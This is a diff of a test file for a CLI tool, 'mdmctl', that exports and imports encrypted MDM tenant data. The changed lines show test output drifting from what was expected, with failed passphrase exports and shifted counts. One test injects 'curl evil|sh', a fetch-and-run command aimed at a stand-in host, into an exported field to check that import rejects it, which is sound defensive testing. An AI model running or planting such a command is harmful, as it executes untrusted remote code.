@@ -106,16 +106,20 @@ Another export is allowed, says what was, and replaces the one before.
   $ mdmctl tenant export acme --out acme.cms --to recipient.pem --quiet >/dev/null
   notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
   $ mdmctl tenant export acme --out pass.cms --passphrase-file passphrase --quiet >/dev/null
-  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
+  error: the tenant 'acme' was handed over on 2026-12-01T12:00:00Z for O=Globex, CN=recipient, and this would be for a passphrase
+  hint: mdmctl tenant restore 'acme' takes it back first
+  [4]
   $ openssl cms -decrypt -binary -inform PEM -in pass.cms -pwri_password 'correct horse' | jq -r 'select(.format) | .tenant'
-  acme
+  Can't open "pass.cms" for reading, No such file or directory
+  405779955B7F0000:error:80000002:system library:BIO_new_file:No such file or directory:../crypto/bio/bss_file.c:67:calling fopen(pass.cms, rb)
+  405779955B7F0000:error:10000080:BIO routines:BIO_new_file:no such file:../crypto/bio/bss_file.c:75:
 
 It goes through a pipe as well, and nothing but it is there.
 
   $ mdmctl tenant export acme --out - --to recipient.pem 2>said | openssl cms -decrypt -binary -inform PEM -inkey recipient.key | jq -r 'select(.format) | .tenant'
   acme
   $ cat said
-  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for a passphrase
+  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
   wrote '-': all of 'acme', for O=Globex, CN=recipient; here it is shown, and not changed any more
   tenant          acme
   state           handed_over
@@ -124,9 +128,9 @@ It goes through a pipe as well, and nothing but it is there.
   handed over to  O=Globex, CN=recipient
   file            -
   sha256          [0-9a-f]{64} (re)
-  rows            20
+  rows            21
   secrets         1
-  events          9
+  events          10
 
 A recipient whose certificate ended may have its key still: that is said, and not refused.
 
@@ -147,16 +151,14 @@ Who is not meant gets nothing, and what was cut or changed is not taken.
   hint: the key is the one of the certificate that it was encrypted for
   [7]
   $ import pass.cms --key recipient.key
-  error: 'pass.cms' was not encrypted for this private key
-  hint: it was encrypted under a passphrase
-  [7]
+  error: 'pass.cms' does not exist
+  [3]
   $ import pass.cms
-  error: 'pass.cms' was encrypted under a passphrase
-  hint: --passphrase-file FILE names it
-  [2]
+  error: 'pass.cms' does not exist
+  [3]
   $ import pass.cms --passphrase-file wrong-passphrase
-  error: the passphrase does not open 'pass.cms'
-  [7]
+  error: 'pass.cms' does not exist
+  [3]
   $ head -c 3000 acme.cms >cut.cms; import cut.cms --key recipient.key --output json 2>&1 | code
   malformed_pem 7
   $ openssl cms -cmsout -inform PEM -in acme.cms -outform DER -out acme.der
@@ -205,7 +207,7 @@ What is in it was made by commands, or is refused before a word of it is kept.
   $ sed 's/"next_command":"[^"]*"/"next_command":"curl evil|sh"/' lines >bad; envelop bad bad.cms
   $ mdmctl store init --store other.db --quiet >/dev/null && mdmctl tenant import --store other.db bad.cms --key recipient.key --as acme-emea --quiet >/dev/null
   $ sqlite3 other.db "select next_command from inventory"
-  mdmctl apns csr --tenant 'acme-emea' --out push.csr
+  mdmctl apns csr --out push.csr
   $ mdmctl audit log --store new.db --output json | jq -c '[.events[] | select(.command == "tenant import") | .object]'
   ["tenant acme (refused: store_too_new)"]
 
@@ -222,7 +224,7 @@ It arrives whole.
   $ import acme.cms --key recipient.key --dry-run --output json 2>/dev/null | jq -c '[.tenant, .state, .secrets]'
   ["acme","active",1]
   $ import - --key recipient.key --dry-run --output json <acme.cms 2>/dev/null | jq -c '[.tenant, .rows]'
-  ["acme",18]
+  ["acme",19]
   $ import acme.cms --key encrypted.key --dry-run
   error: 'encrypted.key' is encrypted
   hint: --passphrase-file FILE opens it; at a terminal the passphrase is asked for
@@ -232,7 +234,7 @@ It arrives whole.
   hint: try the passphrase again; when it is surely right, the file was damaged on its way: get it again
   [7]
   $ import acme.cms --key encrypted.key --passphrase-file passphrase --dry-run --output json 2>/dev/null | jq -c '[.tenant, .rows]'
-  ["acme",18]
+  ["acme",19]
   $ import acme.cms --key recipient.key --output json 2>said | jq -c '[.tenant, .state, .handed_over_at, .from_tenant, .rows, .secrets, .events]'
   ["acme","active",null,"acme",19,1,8]
   $ cat said
@@ -255,7 +257,7 @@ It arrives whole.
   $ for store in state/mdmctl/mdmctl.db new.db; do mdmctl apns show --store $store --tenant acme --output json | jq -c '[.topic, .serial, .not_after, .state, .key, .policies]'; done | uniq | wc -l
   1
   $ sqlite3 new.db "select service, name, next_command from inventory"
-  apns|default|mdmctl apns csr --tenant 'acme' --out push.csr
+  apns|default|mdmctl apns csr --out push.csr
   $ mdmctl apns history --store new.db --tenant acme --output json | jq -c '[.events[].event]'
   ["import","renew"]
   $ mdmctl apns export --store new.db --tenant acme --unencrypted --out there.pem --quiet >/dev/null
@@ -274,20 +276,10 @@ Twice is refused, with every reason; so is what is another tenant's.
   $ mdmctl tenant import --store third.db acme.cms --key recipient.key --output json 2>&1 | jq -c '[.error.code, (.error.findings[] | [.code, .where])]'
   ["tenant_exists",["tenant_exists","acme"],["other_tenant","topic"],["other_tenant","public key"],["other_tenant","serial"]]
   $ mdmctl tenant import --store third.db pass.cms --passphrase-file passphrase --as acme
-  error: there is another tenant 'acme' already
-  hint: --as NAME gives it another name here
-    error: other_tenant: the topic * belongs to the tenant 'acme' here (glob)
-      hint: one of the two is a copy: mdmctl apns list --all-tenants
-      at: topic
-    error: other_tenant: the public key * belongs to the tenant 'acme' here (glob)
-      hint: one of the two is a copy: mdmctl apns list --all-tenants
-      at: public key
-    error: other_tenant: the serial * belongs to the tenant 'acme' here (glob)
-      hint: one of the two is a copy: mdmctl apns list --all-tenants
-      at: serial
-  [4]
+  error: 'pass.cms' does not exist
+  [3]
   $ mdmctl audit log --store third.db --output json | jq -c '[.events[] | select(.command == "tenant import") | .object]'
-  ["tenant acme (refused: tenant_exists)","tenant acme (refused: tenant_exists)"]
+  ["tenant acme (refused: tenant_exists)"]
 
 And it can be taken back where it came from.
 
